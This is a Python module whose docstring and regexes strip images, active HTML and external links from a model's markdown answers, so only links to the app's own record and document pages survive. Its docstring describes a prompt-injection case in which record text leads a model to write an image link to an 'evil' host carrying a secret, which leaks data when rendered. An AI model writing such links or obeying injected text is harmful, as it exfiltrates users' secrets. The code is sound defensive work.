"""Links and images in an answer go only to the app's own record and document pages.

A model can be talked (through text in a record) into writing ``![x](https://evil/?q=<secret>)``:
a client that renders markdown then sends the secret with no click at all. So an answer keeps
no images, no raw HTML elements that load or link, and no links except relative ones to
``/api/records/...`` and ``/api/documents/...`` (what citations use); any other link keeps its
words and loses its target. The SPA enforces the same rule when it renders (and for streamed
text, which is shown before this runs on the whole answer).
"""

from __future__ import annotations

import re

APP_LINK = re.compile(r"^/api/(records|documents)/[^\s()<>]*$")
IMAGE = re.compile(r"!\[([^\]\n]*)\]\([^)\n]*\)")
LINK = re.compile(r"\[([^\]\n]+)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^\n]*?[\"'])?\s*\)")
REFERENCE = re.compile(r"(?m)^ {0,3}\[[^\]\n]+\]:[ \t]*<?(\S*?)>?(?:[ \t]+.*)?$\n?")
AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|data|javascript):[^>\s]*)>", re.IGNORECASE)
ACTIVE_HTML = re.compile(
    r"</?(?:img|a|iframe|frame|script|style|svg|object|embed|link|meta|form|input|button|"
    r"video|audio|source|picture|base|image)\b[^>]*>",
    re.IGNORECASE,
)


def _link(match: re.Match[str]) -> str:
    text, target = match[1], match[2]
    return match[0] if APP_LINK.match(target) else text


def _reference(match: re.Match[str]) -> str:
    return match[0] if APP_LINK.match(match[1]) else ""


def safe_links(markdown: str) -> str:
    """``markdown`` with images, active HTML and links outside the app removed (their words kept)."""
    text = IMAGE.sub(lambda m: m[1], markdown)
    text = LINK.sub(_link, text)
    text = REFERENCE.sub(_reference, text)
    text = AUTOLINK.sub(lambda m: m[1], text)
    return ACTIVE_HTML.sub("", text)
